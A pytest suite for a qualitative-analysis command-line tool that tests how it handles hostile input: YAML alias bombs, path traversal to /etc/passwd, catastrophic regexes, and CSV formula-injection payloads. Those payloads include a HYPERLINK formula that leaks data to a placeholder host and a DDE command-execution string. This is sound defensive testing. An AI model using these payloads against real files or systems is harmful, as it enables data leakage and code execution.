"""Hostile and careless input: each crafted file ends in seconds with a one-line
error naming the file (and line) or with the right result, and writes nothing
outside the output folder.

Time bounds are enforced by pytest-timeout (a hang fails the test), never
asserted from measured times.
"""

from __future__ import annotations

import csv
import io
import os
import signal
import stat
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

from hcrisis.cli import app
from hcrisis.errors import InputError, SchemaError
from hcrisis.files import read_bytes, read_hashed, write_atomic
from hcrisis.ingest.corpus import load_corpus
from hcrisis.ingest.readers import read_transcript

from conftest import ROOT, write

runner = CliRunner()


def run(*args):
    return runner.invoke(app, [str(a) for a in args])


def tree(root: Path) -> set[Path]:
    """Every file below `root` (hidden ones too)."""
    return {p for p in root.rglob("*") if p.is_file() or p.is_symlink()}


def error_line(result) -> str:
    """The CLI's one error line; fails unless the command exited 1 with exactly one line."""
    assert result.exit_code == 1, result.output
    lines = result.output.splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: "), result.output
    return lines[0]


def corpus(root: Path, documents: str = "", extra: str = "", files: dict[str, str] | None = None) -> Path:
    """A one-interview corpus; `documents` adds entries under `documents:`."""
    write(root / "manifest.yaml", f"name: hostile\n{extra}documents:\n"
          "  - {id: int01, file: int01.txt, kind: interview}\n" + documents)
    write(root / "int01.txt", "Interviewer: What matters?\nR: Leaders with vision matter.\n")
    for name, text in (files or {}).items():
        write(root / name, text)
    return root


# ---------------------------------------------------------------- YAML bombs
BOMB = textwrap.dedent("""\
    name: bomb
    a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
    b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
    c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
    d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
    e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
    f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
    g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
    documents: *g
    """)


@pytest.mark.timeout(20)
def test_manifest_alias_bomb_refused_at_its_line(tmp_path):
    write(tmp_path / "manifest.yaml", BOMB)
    assert len(BOMB.encode()) < 400
    before = tree(tmp_path)
    line = error_line(run("corpus", "info", tmp_path))
    assert line == (f"Error: {tmp_path / 'manifest.yaml'}:2: YAML anchors and aliases (&name, *name) "
                    "are not accepted (write the repeated part out in full)")
    assert tree(tmp_path) == before


@pytest.mark.timeout(20)
def test_codebook_and_study_alias_bombs_refused(tmp_path):
    book = write(tmp_path / "book.yaml", "codebook: x\ncodes:\n  - {id: a, label: A, rules: "
                 "{keywords: [x]}}\nlol: &l [x, x, x]\nmore: [*l, *l]\n")
    assert ":4: YAML anchors and aliases" in error_line(run("codebook", "check", book))
    study = write(tmp_path / "s.yaml", "study: s\ncorpus: &c c\noutputs: *c\n")
    assert ":2: YAML anchors and aliases" in error_line(run("reproduce", study))


@pytest.mark.timeout(20)
def test_deep_nesting_refused(tmp_path):
    write(tmp_path / "manifest.yaml", "name: deep\nsource: " + "[" * 5000 + "]" * 5000 + "\n")
    line = error_line(run("corpus", "info", tmp_path))
    assert line == (f"Error: {tmp_path / 'manifest.yaml'}:2: nested deeper than 100 levels "
                    "(flatten the structure)")


@pytest.mark.timeout(20)
def test_oversized_yaml_refused(tmp_path):
    p = tmp_path / "manifest.yaml"
    with open(p, "wb") as fh:
        fh.write(b"name: big\n")
        fh.truncate(51 * 1024 * 1024)
    assert "over the limit of 52428800 bytes" in error_line(run("corpus", "info", tmp_path))


# ---------------------------------------------------------------- linear loaders
@pytest.mark.timeout(180)
def test_300000_document_manifest_loads_linearly(tmp_path):
    """Quadratic duplicate checks took over 600 s here; the duplicate is reported."""
    entries = "".join(f"  - {{id: d{i}, file: d{i}.txt, kind: interview}}\n" for i in range(300_000))
    write(tmp_path / "manifest.yaml", f"name: big\ndocuments:\n{entries}  - {{id: d7, file: x.txt, kind: interview}}\n")
    with pytest.raises(SchemaError) as exc:
        load_corpus(tmp_path)
    assert exc.value.problems == [("documents", 2, "duplicate document id(s): d7")]


# ---------------------------------------------------------------- escaping the corpus folder
@pytest.mark.timeout(20)
@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "link/passwd"])
def test_document_outside_the_corpus_refused(tmp_path, name):
    root = corpus(tmp_path / "c", f"  - {{id: x, file: {name}, kind: interview}}\n")
    (root / "link").symlink_to("/etc")
    out, key = tmp_path / "redacted", tmp_path / "key.csv"
    before = tree(tmp_path)
    line = error_line(run("privacy", "redact", root, "--out", out, "--key", key))
    assert line == (f"Error: {root / 'manifest.yaml'}: documents[1].file: '{name}' is outside the folder "
                    f"{root.resolve()} (keep the file inside the folder, or declare the folder it lives "
                    "in as 'base_folder')")
    assert tree(tmp_path) == before


@pytest.mark.timeout(20)
def test_participants_and_tables_outside_refused(tmp_path):
    write(tmp_path / "secret.csv", "participant_id\nP01\n")
    root = corpus(tmp_path / "c", extra="participants: ../secret.csv\n")
    assert "participants: '../secret.csv' is outside the folder" in error_line(run("corpus", "info", root))
    root = corpus(tmp_path / "d", extra="tables:\n  - {id: t, file: ../secret.csv, kind: survey response, "
                  "text_column: participant_id}\n")
    assert "tables[0].file: '../secret.csv' is outside the folder" in error_line(run("corpus", "info", root))


@pytest.mark.timeout(20)
def test_declared_base_folder_allows_data_kept_elsewhere(tmp_path):
    write(tmp_path / "data" / "int02.txt", "Interviewer: And?\nR: Budgets.\n")
    root = corpus(tmp_path / "project" / "c", "  - {id: int02, file: ../../data/int02.txt, kind: interview}\n",
                  extra="base_folder: ../..\n")
    c = load_corpus(root)
    assert c.segments["text"].tolist() == ["What matters?", "Leaders with vision matter.", "And?", "Budgets."]
    assert tmp_path / "data" / "int02.txt" in c.input_files()


@pytest.mark.timeout(20)
def test_study_paths_stay_inside_the_study_folder(tmp_path):
    corpus(tmp_path / "c")
    from hcrisis.study.model import load_study

    study = write(tmp_path / "studies" / "s.yaml", "study: s\ncorpus: ../c\n")
    with pytest.raises(InputError) as exc:
        load_study(study).corpus_path
    assert exc.value.one_line().startswith(f"{study}:2: corpus: '../c' is outside the folder")
    write(study, "study: s\nbase_folder: ..\ncorpus: ../c\n")
    assert load_study(study).corpus_path == (tmp_path / "c").resolve()


# ---------------------------------------------------------------- devices and pipes
@pytest.mark.timeout(20)
def test_dev_zero_as_a_document(tmp_path):
    root = corpus(tmp_path, "  - {id: z, file: zero.txt, kind: interview}\n")
    (root / "zero.txt").symlink_to("/dev/zero")
    line = error_line(run("corpus", "info", root))
    assert "documents[1].file: 'zero.txt' is outside the folder" in line


@pytest.mark.timeout(20)
def test_device_and_fifo_refused_even_inside(tmp_path):
    fifo = tmp_path / "fifo.txt"
    os.mkfifo(fifo)
    with pytest.raises(InputError) as exc:
        read_bytes(fifo)   # no writer: a blocking open would hang here
    assert exc.value.one_line() == (f"{fifo}: not a regular file (a device, pipe or socket) "
                                    "(name a regular file)")
    with pytest.raises(InputError, match="not a regular file"):
        read_bytes("/dev/zero")
    root = corpus(tmp_path / "c", "  - {id: f, file: ../fifo.txt, kind: interview}\n", extra="base_folder: ..\n")
    assert error_line(run("corpus", "info", root)) == (
        f"Error: {fifo}: not a regular file (a device, pipe or socket) (name a regular file)")


# ---------------------------------------------------------------- regexes
SLOW = [r"(?:a|a)+$", r"(?:a|aa)+$", r"a+a+a+a+a+a+$", r"(?:a{1,50}){1,50}$"]


@pytest.mark.timeout(30)
@pytest.mark.parametrize("rx", SLOW)
def test_slow_codebook_regex_fails_check_and_code(tmp_path, rx):
    root = corpus(tmp_path / "c", files={"int01.txt": "R: " + "a" * 5000 + "!\n"})
    book = write(tmp_path / "book.yaml", f"codebook: x\ncodes:\n  - id: a\n    label: A\n"
                 f"    rules: {{regex: ['{rx}']}}\n")
    line = error_line(run("codebook", "check", book))
    assert line.startswith(f"Error: {book}:5: codes[0].rules.regex[0]: too slow: over 0.25 s on a ")
    out = tmp_path / "out"
    before = tree(tmp_path)
    assert error_line(run("code", root, "--codebook", book, "--out", out)) == line
    assert tree(tmp_path) == before


@pytest.mark.timeout(30)
def test_a_regex_slow_at_run_time_stops_with_the_rule_named(tmp_path, monkeypatch):
    """The second line of defence: a pattern Python runs gets a CPU budget per match."""
    from hcrisis.coding.codebook import build_codebook
    from hcrisis.coding.matcher import compile_codebook
    from hcrisis.text.tokens import tokenize

    import hcrisis.saferegex as saferegex
    monkeypatch.setattr(saferegex, "MATCH_SECONDS", 0.2)
    book = build_codebook({"codebook": "x", "codes": [
        {"id": "fast", "label": "F", "rules": {"keywords": ["leader"]}},
        {"id": "slow", "label": "S", "rules": {"regex": [r"(?:a|aa)+$"]}}]}, tmp_path / "book.yaml")
    compiled = compile_codebook(book)
    texts = ["Leaders matter.", "a" * 60 + "!"]
    with pytest.raises(InputError) as exc:
        compiled.code(tokenize(texts, ["s1", "s2"]), texts)
    assert exc.value.one_line() == (
        f"{tmp_path / 'book.yaml'}: code 'slow' regex[0] '(?:a|aa)+$' ran over its time budget "
        "(0.2 s of CPU for one match) in segment s2: catastrophic backtracking (rewrite it without "
        "repeats that can match the same text in several ways, such as (a|aa)+ or (a+)+)")


@pytest.mark.timeout(30)
def test_catastrophic_speaker_pattern(tmp_path):
    pattern = "^(?P<speaker>(a+)+):"
    root = corpus(tmp_path, extra=f"speakers: {{pattern: '{pattern}'}}\n",
                  files={"int01.txt": "a" * 5000 + "!\n"})
    line = error_line(run("corpus", "info", root))
    assert line.startswith(f"Error: {root / 'manifest.yaml'}:2: speakers.pattern: too slow: over 0.25 s")
    # run as it is (the loader's check skipped), RE2 reads it in linear time
    from hcrisis.ingest.readers import ReaderOptions
    t = read_transcript(root / "int01.txt", ReaderOptions(speaker_pattern=pattern))
    assert [(turn.speaker, turn.start, turn.end) for turn in t.turns] == [(None, 0, 5001)]


@pytest.mark.timeout(20)
@pytest.mark.parametrize("within, message", [
    ("1e30", "expected int, got str"),
    ("1000000000000000000000000000000", "must be between 1 and 1000"),
])
def test_near_within_out_of_range(tmp_path, within, message):
    book = write(tmp_path / "book.yaml", "codebook: x\ncodes:\n  - id: a\n    label: A\n"
                 f"    rules: {{near: [{{terms: [a, b], within: {within}}}]}}\n")
    assert error_line(run("codebook", "check", book)) == (
        f"Error: {book}:5: codes[0].rules.near[0].within: {message}")


# ---------------------------------------------------------------- big transcript
@pytest.mark.timeout(120)
def test_48_mb_transcript_without_labels_in_bounded_memory(tmp_path):
    """One 48 MB paragraph (lines, no blank line, no label): about 120 bytes per
    character before, a MemoryError under a 2 GB address-space limit; now one turn."""
    p = tmp_path / "big.txt"
    line = ("the housing officer said that " * 20).strip() + ".\n"
    n = 48_000_000 // len(line)
    p.write_text(line * n)
    script = textwrap.dedent(f"""
        import resource
        resource.setrlimit(resource.RLIMIT_AS, (2 * 1024 ** 3, 2 * 1024 ** 3))
        from hcrisis.ingest.readers import read_transcript
        t = read_transcript({str(p)!r})
        print(len(t.turns), t.turns[0].start, t.turns[0].end)
    """)
    out = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True,
                         env={**os.environ, "PYTHONPATH": str(ROOT / "src")})
    assert out.returncode == 0, out.stderr[-500:]
    assert out.stdout.split() == ["1", "0", str(n * len(line) - 1)]


# ---------------------------------------------------------------- strict tables
@pytest.mark.timeout(20)
def test_ragged_participant_row(tmp_path):
    root = corpus(tmp_path, extra="attributes: {sector: {}}\nparticipants: participants.csv\n",
                  files={"participants.csv": "participant_id,sector\nP01,la,extra,more\nP02,ha\n"})
    assert error_line(run("corpus", "info", root)) == (
        f"Error: {root / 'participants.csv'}:2: row has 4 fields, the header 2 "
        "(quote fields that hold commas, or fix the row)")


TABLE = "tables:\n  - {id: survey, file: responses.csv, kind: survey response, text_column: answer, " \
        "id_column: response_id}\n"


@pytest.mark.timeout(20)
@pytest.mark.parametrize("rows, message", [
    ("R1,More training.\nR2,Clearer careers.\nR1,Pay.\n", ":4: duplicate response_id 'R1' (first on line 2) "
                                                         "(give each row its own id)"),
    ("R1,More training.\n,Pay.\n", ":3: empty response_id (give every row an id)"),
])
def test_table_ids_strict(tmp_path, rows, message):
    root = corpus(tmp_path, extra=TABLE, files={"responses.csv": "response_id,answer\n" + rows})
    assert error_line(run("corpus", "info", root)) == f"Error: {root / 'responses.csv'}{message}"


@pytest.mark.timeout(20)
def test_table_ids_clashing_with_a_document_segment(tmp_path):
    root = corpus(tmp_path, extra=TABLE, files={"responses.csv": "response_id,answer\nint01:0001,Pay.\n"})
    assert error_line(run("corpus", "info", root)) == (
        f"Error: {root / 'manifest.yaml'}: segment id 'int01:0001' occurs twice "
        "(make the tables' id columns unique across the corpus)")


# ---------------------------------------------------------------- formula injection
FORMULAS = ['=HYPERLINK("http://x.example/?leak="&A1,"leader")', "+SUM(1+1) leader", "@SUM(1) leader",
            "-2+3 leader", "\t=1 leader"]   # a CR cannot survive: input line ends become LF


def csv_cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def responses(rows: list[tuple[str, str]]) -> str:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows([("response_id", "answer"), *rows])
    return buf.getvalue()


@pytest.mark.timeout(60)
def test_formulas_in_turns_and_ids_never_start_a_csv_cell(tmp_path):
    ids = ["=cmd|' /C calc'!A0"] + [f"R{i}" for i in range(1, len(FORMULAS))]
    root = corpus(tmp_path / "c", extra=TABLE, files={"responses.csv": responses(list(zip(ids, FORMULAS)))})
    book = write(tmp_path / "book.yaml", "codebook: x\ncodes:\n  - {id: lead, label: Lead, unit: turn, "
                 "rules: {keywords: [leader], regex: ['[=+@-][A-Z]{3}']}}\n")
    out = tmp_path / "out"
    result = run("code", root, "--codebook", book, "--out", out, "--allow-identifiers")
    assert result.exit_code == 0, result.output
    written = [p for p in tree(out) if p.suffix == ".csv"]
    assert written
    for p in written:
        for row in csv_cells(p):
            for cell in row:
                assert cell[:1] not in ("=", "+", "@", "\t", "\r") and not (
                    cell[:1] == "-" and not _is_number(cell)), (p.name, cell)
    codings = {r[0]: r for r in csv_cells(out / "codings.csv")[1:]}
    assert "'=cmd|' /C calc'!A0" in codings
    kwic = tmp_path / "kwic.csv"
    assert run("kwic", root, "leader", "--out", kwic, "--allow-identifiers").exit_code == 0
    assert all(c[:1] not in ("=", "+", "@", "\t", "\r") for row in csv_cells(kwic) for c in row)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


@pytest.mark.timeout(60)
def test_redacted_table_guarded_and_read_back_unchanged(tmp_path):
    rows = [(f"R{i}", f) for i, f in enumerate(FORMULAS)]
    root = corpus(tmp_path / "c", extra=TABLE, files={"responses.csv": responses(rows)})
    out, key = tmp_path / "redacted", tmp_path / "key.csv"
    assert run("privacy", "redact", root, "--out", out, "--key", key).exit_code == 0
    cells = [r[1] for r in csv_cells(out / "tables" / "survey.csv")[1:]]
    assert cells == ["'" + f for f in FORMULAS]
    assert load_corpus(out).segments["text"].tolist()[2:] == FORMULAS


def test_guard_leaves_numbers_and_plain_text_alone():
    import pandas as pd
    from hcrisis.tables import guard_cell, table_to_csv, unguard_cell

    df = pd.DataFrame({"n": [-1, 2], "x": [-0.5, 1.0], "t": ["-3", "=1+1"], "o": [-4, "@me"]})
    assert table_to_csv(df) == "n,x,t,o\n-1,-0.5,-3,-4\n2,1,'=1+1,'@me\n"
    assert guard_cell("\r=1") == "'\r=1" and guard_cell("\t+1") == "'\t+1"
    for text in ["'=x", "''=x", "'", "=", "plain", "'plain", "-", "+1e5", "- item", "\r"]:
        assert unguard_cell(guard_cell(text)) == text
    assert [guard_cell(t) for t in ["'=x", "''=x", "'plain", "- item"]] == ["''=x", "'''=x", "'plain", "'- item"]


# ---------------------------------------------------------------- workers, temp files, modes, hashes
def _children(pid: int) -> list[int]:
    kids = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[1]) == pid and fields[0] != "Z":
                kids.append(int(entry.name))
    return kids


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


WORKERS = """
import sys, time
from hcrisis.study.parallel import start_tokeniser
from hcrisis.text.cloud import CloudJob, start_rendering, cloud_job
import pandas as pd
tokeniser = start_tokeniser()
table = pd.DataFrame({"word": ["housing", "skills", "tenants"], "count": [5, 3, 2]})
wait = start_rendering([cloud_job(table)] * 2, processes=2)
print("ready", flush=True)
time.sleep(120)
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
@pytest.mark.timeout(60)
def test_workers_die_with_a_killed_parent(tmp_path):
    proc = subprocess.Popen([sys.executable, "-c", WORKERS], stdout=subprocess.PIPE, text=True,
                            env={**os.environ, "PYTHONPATH": str(ROOT / "src")})
    try:
        assert proc.stdout.readline().strip() == "ready"
        workers = _children(proc.pid)
        assert len(workers) >= 3   # the tokeniser and two cloud workers
        proc.send_signal(signal.SIGKILL)
        proc.wait()
        while any(_alive(w) for w in workers):   # the timeout fails the test if they stay
            time.sleep(0.1)
    finally:
        proc.kill()


KILLED_WRITER = """
import sys, time
from hcrisis.files import atomic_path
with atomic_path(sys.argv[1]) as tmp:
    tmp.write_text("half")
    print("writing", flush=True)
    time.sleep(120)
"""


@pytest.mark.timeout(30)
def test_temp_files_of_a_killed_writer_removed_by_the_next_run(tmp_path):
    out = tmp_path / "outputs"
    proc = subprocess.Popen([sys.executable, "-c", KILLED_WRITER, str(out / "table.csv")],
                            stdout=subprocess.PIPE, text=True, env={**os.environ, "PYTHONPATH": str(ROOT / "src")})
    assert proc.stdout.readline().strip() == "writing"
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    (left,) = tree(out)
    assert left.name.startswith(".table.csv.") and left.name.endswith(".tmp.csv")
    ours = write(out / f".x.csv.{os.getpid()}.0123456789abcdef.tmp.csv", "")   # a live writer's
    write_atomic(out / "other.csv", "a\n")
    assert sorted(p.name for p in tree(out)) == sorted([ours.name, "other.csv"])


KILLED_CODER = """
import sys, time
from hcrisis.files import temp_folder
folder = temp_folder(sys.argv[1], "coding-out", "coding")
(folder / "raw").write_text("a participant's words")
print("working", flush=True)
time.sleep(120)
"""


@pytest.mark.timeout(30)
def test_work_folder_of_a_killed_command_removed_by_the_next_run(tmp_path):
    """`code` spills transcripts' text to a private folder beside --out: after a kill, the
    next command writing there removes it; a live process's folder stays."""
    from hcrisis.files import temp_folder

    proc = subprocess.Popen([sys.executable, "-c", KILLED_CODER, str(tmp_path)], stdout=subprocess.PIPE, text=True,
                            env={**os.environ, "PYTHONPATH": str(ROOT / "src")})
    assert proc.stdout.readline().strip() == "working"
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    (left,) = [p for p in tmp_path.iterdir()]
    assert left.name.startswith(".coding-out.") and left.name.endswith(".coding.tmpdir")
    assert stat.S_IMODE(left.stat().st_mode) == 0o700
    ours = temp_folder(tmp_path, "other", "coding")
    assert sorted(tmp_path.iterdir()) == [ours]


@pytest.mark.timeout(20)
def test_outputs_get_the_umask_mode(tmp_path):
    old = os.umask(0o022)
    try:
        p = write_atomic(tmp_path / "x.csv", "a\n")
    finally:
        os.umask(old)
    assert stat.S_IMODE(p.stat().st_mode) == 0o644


@pytest.mark.timeout(20)
def test_a_transcript_edited_while_read_is_recorded_as_read(tmp_path, monkeypatch):
    """The recorded hash is of the bytes analysed, not of the file as it is afterwards."""
    import hashlib

    import hcrisis.ingest.readers.text as text_reader
    root = corpus(tmp_path)
    original = (root / "int01.txt").read_bytes()
    decode = text_reader.decode_text

    def decode_then_edit(data, path):   # the file changes right after it was read
        write(Path(path), "Interviewer: Edited?\nR: Edited meanwhile.\n")
        return decode(data, path)
    monkeypatch.setattr(text_reader, "decode_text", decode_then_edit)
    c = load_corpus(root)
    assert c.segments["text"].tolist() == ["What matters?", "Leaders with vision matter."]
    assert c.input_hashes[(root / "int01.txt").resolve()] == hashlib.sha256(original).hexdigest()
    assert c.input_hashes[(root / "manifest.yaml").resolve()] == hashlib.sha256(
        (root / "manifest.yaml").read_bytes()).hexdigest()
    data, digest = read_hashed(root / "int01.txt")
    assert digest == hashlib.sha256(data).hexdigest() != c.input_hashes[(root / "int01.txt").resolve()]


@pytest.mark.timeout(20)
@pytest.mark.parametrize("setting, value", [("scale", "100000"), ("width", "1e30"), ("dpi", "true")])
def test_cloud_settings_out_of_range(setting, value):
    import yaml

    from hcrisis.text.cloud import CloudStyle
    with pytest.raises(InputError) as exc:
        CloudStyle.from_settings({setting: yaml.safe_load(value)}, Path("s.yaml"))
    assert exc.value.one_line().startswith(f"s.yaml: settings.clouds.{setting} is ")
    assert exc.value.one_line().endswith(" (use a number from 1 to 16)" if setting == "scale" else ")")


@pytest.mark.timeout(60)
def test_reproduce_records_a_transcript_as_it_was_read(tmp_path, monkeypatch):
    """Edited while the run goes on: manifest.json has the hash of the bytes analysed."""
    import hashlib
    import json

    import hcrisis.ingest.readers.text as text_reader
    from hcrisis.study.runner import reproduce
    root = corpus(tmp_path / "c")
    original = (root / "int01.txt").read_bytes()
    decode = text_reader.decode_text

    def decode_then_edit(data, path):
        write(Path(path), "Interviewer: Edited?\nR: Edited meanwhile.\n")
        return decode(data, path)
    monkeypatch.setattr(text_reader, "decode_text", decode_then_edit)
    study = write(tmp_path / "s.yaml", "study: s\ncorpus: c\noutputs: out\nsteps:\n"
                  "  - {id: describe, type: describe}\n  - {id: report, type: report}\n")
    reproduce(study, cache=False)
    inputs = json.loads((tmp_path / "out" / "manifest.json").read_text())["inputs"]
    assert inputs["c/int01.txt"] == hashlib.sha256(original).hexdigest()
